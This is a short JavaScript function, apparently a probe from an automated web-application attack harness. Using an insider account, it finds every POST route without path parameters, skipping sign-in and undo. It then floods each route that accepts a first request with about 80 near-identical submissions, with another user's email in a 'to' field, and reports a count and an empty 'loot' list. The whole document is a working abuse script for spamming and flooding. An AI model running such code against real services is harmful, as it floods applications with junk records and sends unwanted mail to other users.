// Scores of rows that differ in nothing but their ids. A route that refuses the first makes no row of the others either.
async (insider) => {
  let tried = 0;
  const fields = { name: 'Flood', text: 'Flood', subject: 'Flood', html: 'Flood', to: insider.other.email, quantity: '1' };
  const post = (route, time) => {
    tried++;
    const body = new URLSearchParams({ ...fields, name: 'Flood ' + time % 3 });
    return fetch(route.slice(5), { method: 'POST', body, redirect: 'manual' })
      .then((answer) => answer.ok || answer.type === 'opaqueredirect', () => false);
  };
  for (const route of insider.portion.filter((one) => one.startsWith('POST ') && !one.includes('{') && !/signin|undo/.test(one))) {
    if (!await post(route, 0)) continue;
    const asks = [];
    for (let time = 1; time < 80; time++) {
      asks.push(post(route, time));
      if (asks.length % 20 === 0) await Promise.all(asks);
    }
    await Promise.all(asks);
  }
  return JSON.stringify({ tried, loot: [] });
}
